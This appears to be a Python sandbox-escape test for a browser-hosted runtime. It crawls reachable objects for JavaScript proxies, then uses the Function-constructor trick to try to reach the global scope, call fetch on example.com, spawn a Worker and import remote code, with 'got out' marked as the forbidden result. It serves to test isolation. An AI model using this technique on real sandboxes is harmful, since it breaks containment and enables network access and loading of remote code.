# ends: ok, raised, broken
# never: got out
import sys
from types import BuiltinFunctionType, FunctionType, MethodType, ModuleType

# All that hangs on what a program is given, by every way there is.
found, todo = {}, [call, acall, print, input, *[module for name, module in sys.modules.items() if "stacks" in name]]
while todo and len(found) < 100_000:
    thing = todo.pop()
    if id(thing) in found:
        continue
    found[id(thing)] = thing
    if isinstance(thing, FunctionType):
        todo += [thing.__globals__, thing.__defaults__, thing.__kwdefaults__, thing.__code__.co_consts]
        for cell in thing.__closure__ or ():
            try:
                todo.append(cell.cell_contents)
            except ValueError:
                pass
    elif isinstance(thing, (MethodType, BuiltinFunctionType)):
        todo.append(thing.__self__)
    elif isinstance(thing, dict):
        todo += list(thing.values())
    elif isinstance(thing, (list, tuple, set)):
        todo += list(thing)
    elif isinstance(thing, ModuleType):
        todo.append(vars(thing))
    elif isinstance(thing, type):
        todo += list(vars(thing).values())
    else:
        todo.append(getattr(thing, "__dict__", None))
proxies = [thing for thing in found.values() if "JsProxy" in type(thing).__name__ or "Js" in type(thing).__qualname__]
for thing in proxies:
    for wanted in ("self", "fetch('https://example.com/')", "new Worker('x')", "import('https://example.com/x.js')"):
        try:
            print("got out:", thing.constructor(f"return {wanted}")())
        except BaseException:
            pass
        try:
            print("got out:", thing.constructor.constructor(f"return {wanted}")())
        except BaseException:
            pass
print("went on")
